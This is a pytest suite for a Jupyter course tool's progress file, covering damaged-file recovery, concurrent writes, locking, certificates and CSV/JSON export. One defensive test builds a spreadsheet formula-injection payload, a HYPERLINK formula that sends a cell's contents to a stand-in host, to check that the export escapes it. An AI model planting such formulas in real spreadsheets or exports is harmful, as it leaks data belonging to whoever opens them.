"""Progress: kept in one file, whole at any time, by many kernels at once; damaged, unwritable, handed in."""

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from IPython.core.interactiveshell import InteractiveShell
from jupyter_client.manager import KernelManager

from course_magics import settings
from course_magics.cli import main
from course_magics.errors import LessonError
from course_magics.lessons import overview, progress
from course_magics.lessons.overview import Certificate

QUIZ = """\
title: A quiz
questions:
  - id: one
    ask: One?
    choices:
      - {text: Yes it is, right: true, because: It is.}
      - {text: No it is not, because: It is.}
  - id: two
    ask: Two?
    choices:
      - {text: Yes it is, because: It is not.}
      - {text: No it is not, right: true, because: It is not.}
"""
TASK = {
    "task.md": "# A task\n",
    "check.py": "from course_magics.lessons import expect\n"
    "def check(state):\n    yield expect(state.file('made'), 'made', 'not made', 'x')\n",
    "hints/x.md": "```state\n```\nThink.\n",
    "solution.md": "```cell\n1\n```\n",
    "other-way.md": "```cell\n1\n```\n",
    "reset.md": "```cell\n1\n```\n",
}


@pytest.fixture(autouse=True)
def file(here: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The test's own progress, beside a course of two notebooks."""
    monkeypatch.setenv("COURSE_PROGRESS", str(here / "own/progress.json"))
    monkeypatch.setenv("COURSE_LESSONS", str(here / "course"))
    monkeypatch.setenv("COURSE_LESSON", "")
    for name in ("01-first", "02-other"):
        for path, text in TASK.items():
            place = here / "course/exercises" / name / path
            place.parent.mkdir(parents=True, exist_ok=True)
            place.write_text(text, "utf-8")
    quizzes = here / "course/quizzes"
    quizzes.mkdir()
    (quizzes / "01-quiz.yaml").write_text(QUIZ, "utf-8")
    (here / "course/01-notebook.ipynb").touch()
    return here / "own/progress.json"


def passed(name: str) -> str:
    def alter(book: progress.Book) -> None:
        book.exercise(name).passed = progress.now()

    return progress.change(alter)


def test_where_it_is(here: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("COURSE_PROGRESS")
    monkeypatch.setenv("XDG_DATA_HOME", str(here))
    assert progress.path() == here / "course-magics/progress.json"
    monkeypatch.delenv("XDG_DATA_HOME")
    monkeypatch.setenv("HOME", str(here))
    assert progress.path() == here / ".local/share/course-magics/progress.json"


def test_it_is_kept(file: Path) -> None:
    assert progress.load() == (progress.Book(), "")
    assert passed("01-first") == ""
    assert progress.load()[0].exercises["01-first"].passed
    assert json.loads(file.read_text())["form"] == 1
    assert sorted(p.name for p in file.parent.iterdir()) == ["progress.json", "progress.json.lock"]


@pytest.mark.parametrize(
    "text",
    [
        "",
        "{",
        "[]",
        "null",
        '{"form": 2}',
        '{"form": 1}',
        '{"form": 1, "exercises": {"a": 1}, "quizzes": {}}',
        '{"form": 1, "exercises": {"a": {"checks": "x"}}, "quizzes": {}}',
        '{"form": 1, "exercises": {"a": {"hints": [1]}}, "quizzes": {}}',
        '{"form": 1, "exercises": {"a": {"passed": null}}, "quizzes": {}}',
        '{"form": 1, "exercises": {"a": {"new": 1}}, "quizzes": {}}',
        '{"form": 1, "exercises": {}, "quizzes": {"a": {"b": {"tries": null}}}}',
        "[" * 100_000,
    ],
)
def test_a_damaged_file_is_kept_aside(file: Path, text: str) -> None:
    file.parent.mkdir()
    file.write_text(text)
    assert "cannot be read" in progress.load()[1]
    assert file.read_text() == text  # a look changes nothing
    said = passed("01-first")
    assert "progress.damaged-1.json" in said
    assert (file.parent / "progress.damaged-1.json").read_text() == text
    assert progress.load()[0].exercises["01-first"].passed
    file.write_bytes(b"\xff\xfe")
    assert "progress.damaged-2.json" in passed("01-first")


def test_it_is_whole_when_the_disk_is_full(file: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    passed("01-first")
    before = file.read_bytes()

    def full(handle: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    assert "cannot be written" in passed("02-other")
    assert file.read_bytes() == before
    assert not list(file.parent.glob(".progress-*"))
    assert set(progress.load()[0].exercises) == {"01-first", "02-other"}  # for this kernel
    monkeypatch.undo()


def test_what_could_not_be_written_is_written_later(
    file: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with monkeypatch.context() as broken:
        broken.setattr(Path, "replace", lambda *_: (_ for _ in ()).throw(OSError(30, "read-only")))
        assert passed("01-first")
    assert passed("02-other") == ""
    assert set(json.loads(file.read_text())["exercises"]) == {"01-first", "02-other"}


def not_to_be_read(file: Path, patch: pytest.MonkeyPatch) -> None:
    """A fault that cannot be had on demand, nor by root at all: the disk, or the rights, say no."""
    read = Path.read_text

    def refused(path: Path, *rest: str) -> str:
        if path == file:
            raise PermissionError(13, "Permission denied")
        return read(path, *rest)

    patch.setattr(Path, "read_text", refused)


def test_nothing_is_written_over_what_cannot_be_read(
    file: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    passed("01-first")
    before = file.read_bytes()
    with monkeypatch.context() as broken:
        not_to_be_read(file, broken)
        assert "cannot be read: Permission denied" in progress.load()[1]
        for _ in range(2):
            assert "counts in this notebook only" in passed("02-other")
        assert file.read_bytes() == before
        assert set(progress.load()[0].exercises) == {"02-other"}
    assert set(progress.load()[0].exercises) == {"01-first", "02-other"}
    assert progress.change(lambda book: None) == ""
    assert set(json.loads(file.read_text())["exercises"]) == {"01-first", "02-other"}


def test_what_another_kernel_wrote_meanwhile_stays(
    file: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """This one cannot write for a while; afterwards the file has what both have done."""
    passed("01-first")
    with monkeypatch.context() as broken:
        broken.setattr(Path, "replace", lambda *_: (_ for _ in ()).throw(OSError(30, "read-only")))
        assert "counts in this notebook only" in passed("02-other")
    code = (
        "from course_magics.lessons import progress\n"
        "def alter(book):\n"
        "    book.exercise('01-first').checks += 5\n"
        "    book.question('01-quiz', 'one').tries += 1\n"
        "assert not progress.change(alter)\n"
    )
    subprocess.run([sys.executable, "-c", code], check=True)
    assert passed("02-other") == ""
    found = json.loads(file.read_text())
    assert set(found["exercises"]) == {"01-first", "02-other"}
    assert found["exercises"]["01-first"]["checks"] == 5
    assert found["quizzes"]["01-quiz"]["one"]["tries"] == 1


def test_what_is_forgotten_while_it_cannot_be_written_stays_forgotten(
    file: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    passed("01-first")
    passed("02-other")
    with monkeypatch.context() as broken:
        broken.setattr(Path, "replace", lambda *_: (_ for _ in ()).throw(OSError(30, "read-only")))
        overview.forget("01-first")
        assert set(progress.load()[0].exercises) == {"02-other"}
    assert progress.change(lambda book: None) == ""
    assert set(json.loads(file.read_text())["exercises"]) == {"02-other"}


def test_many_write_at_once_and_nothing_is_lost(file: Path) -> None:
    code = (
        "from course_magics.lessons import progress\n"
        "def alter(book): book.exercise('01-first').checks += 1\n"
        "for _ in range(40):\n    assert not progress.change(alter)\n"
    )
    running = [subprocess.Popen([sys.executable, "-c", code]) for _ in range(4)]
    assert [one.wait(timeout=120) for one in running] == [0] * 4
    assert progress.load()[0].exercises["01-first"].checks == 160


def test_a_writer_that_hangs_does_not_hold_up_the_check(
    file: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import fcntl

    monkeypatch.setattr(settings.current(), "patience", 1)
    file.parent.mkdir()
    with file.with_name("progress.json.lock").open("a") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        assert "cannot be written" in passed("01-first")
    assert passed("01-first") == ""


def test_the_overview_has_a_row_a_notebook(here: Path) -> None:
    passed("01-first")
    found = overview.overview()
    assert [(r["notebook"], r["exercise"], r["quiz"], r["passed"]) for r in found.rows] == [
        ("01-notebook", "01-first", "01-quiz", True),
        ("02-other", "02-other", "", False),
    ]
    assert str(found) == (
        "notebook     exercise  quiz    hints  solution\n"
        "01-notebook  passed    0 of 2      0\n"
        "02-other     not yet   -           0\n"
        "1 of 2 exercises passed, 0 of 2 questions right"
    )


def test_nothing_to_do_is_said(here: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COURSE_LESSONS", str(here / "nowhere"))
    assert "there are no exercises" in str(overview.overview())
    assert "nothing to do" in str(Certificate(overview.overview()))
    assert not Certificate(overview.overview()).complete


def test_forgetting(ip: InteractiveShell) -> None:
    passed("01-first")
    passed("02-other")
    ip.run_cell("%quiz 01-quiz --answer one=1").raise_error()
    assert "forgotten: exercise 01-first" in overview.forget("01-first")[0]
    assert "no progress to forget" in overview.forget("01-first")[0]
    with pytest.raises(LessonError, match="is called"):
        overview.forget("nowhere")
    assert "forgotten: exercise 02-other, quiz 01-quiz" in str(
        ip.run_cell("%lesson reset --all").result
    )
    assert progress.load()[0] == progress.Book()


def test_the_certificate_is_honest(ip: InteractiveShell, here: Path) -> None:
    passed("01-first")
    ip.run_cell("%quiz 01-quiz --answer one=1").raise_error()
    found = ip.run_cell("%lesson certificate --name 'Ada <i>L'").result
    assert "Not the whole course is done." in str(found)
    assert "Missing: 01-notebook: 1 of 2 questions; 02-other: exercise" in str(found)
    assert "by Ada <i>L" in str(found)
    assert "<i>" not in found._repr_mimebundle_()["text/html"]
    passed("02-other")
    ip.run_cell("%quiz 01-quiz --answer two=2").raise_error()
    ip.run_cell("%lesson certificate --file done.html --name 'Ada <i>L'").raise_error()
    page = (here / "done.html").read_text("utf-8")
    assert "The whole course is done." in page
    assert "Ada &lt;i&gt;L" in page
    assert "<i>" not in page
    error = ip.run_cell("%lesson certificate --file nowhere/done.html").error_in_exec
    assert isinstance(error, LessonError)


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t=", " =", "\uff1d"])
def test_no_cell_of_the_table_is_a_formula(ip: InteractiveShell, begin: str) -> None:
    """The names in a learner's file are the learner's; the instructor opens a spreadsheet."""
    evil = f'{begin}HYPERLINK("http://x/?"&A1,"ok")'
    progress.change(lambda book: book.exercises.setdefault(evil, progress.Done()))
    progress.change(lambda book: book.quizzes.setdefault(evil, {evil: progress.Answered()}))
    rows = list(csv.reader(io.StringIO(overview.export("csv"))))
    assert any(f"'{evil}" in row for row in rows)
    assert not [c for row in rows for c in row if c.strip()[:1] in set("=+-@\uff1d")]
    assert evil in json.loads(overview.export("json"))["exercises"]


def test_it_is_handed_in(
    ip: InteractiveShell, capsys: pytest.CaptureFixture[str], here: Path
) -> None:
    passed("01-first")
    ip.run_cell("%quiz 01-quiz --answer one=2").raise_error()
    ip.run_cell("%quiz 01-quiz --answer one=1").raise_error()
    capsys.readouterr()
    assert main(["progress", "export"]) == 0
    found = json.loads(capsys.readouterr().out)
    assert found["quizzes"]["01-quiz"]["one"] == {"first": False, "right": True, "tries": 2}
    assert main(["progress", "export", "--format", "csv", "own.csv"]) == 0
    rows = list(csv.DictReader(io.StringIO((here / "own.csv").read_text())))
    assert [(r["kind"], r["name"], r["question"]) for r in rows] == [
        ("exercise", "01-first", ""),
        ("question", "01-quiz", "one"),
    ]
    assert main(["progress", "export", "nowhere/own.csv"]) == 1
    assert main(["progress", "show"]) == 0
    assert "1 of 2 exercises passed" in capsys.readouterr().out
    assert main(["progress", "reset", "01-first"]) == 0
    assert main(["progress", "reset", "nowhere"]) == 1
    assert main(["progress", "reset"]) == 0
    assert "forgotten: quiz 01-quiz" in capsys.readouterr().out


def test_a_damaged_file_is_not_handed_in(file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    file.parent.mkdir()
    file.write_text("{")
    assert main(["progress", "export"]) == 1
    assert "cannot be read" in capsys.readouterr().err


def test_it_survives_a_restart_of_the_kernel(here: Path, file: Path) -> None:
    (here / "made").write_text("yes")
    manager = KernelManager(kernel_name="python3")
    manager.start_kernel(cwd=str(here))
    client = manager.client()
    client.start_channels()
    try:
        said: list[str] = []

        def run(code: str) -> None:
            def note(message: dict[str, object]) -> None:
                content = message["content"]
                assert isinstance(content, dict)
                said.append(str(content.get("data", {}).get("text/plain", "")))

            client.wait_for_ready(timeout=60)
            reply = client.execute_interactive(code, timeout=60, output_hook=note)
            assert reply["content"]["status"] == "ok"

        run("%load_ext course_magics\n%lesson 01-first")
        run("%check")
        manager.restart_kernel(now=True)
        said.clear()
        run("%load_ext course_magics\n%lesson progress")
        assert "1 of 2 exercises passed" in "".join(said)
    finally:
        client.stop_channels()
        manager.shutdown_kernel(now=True)
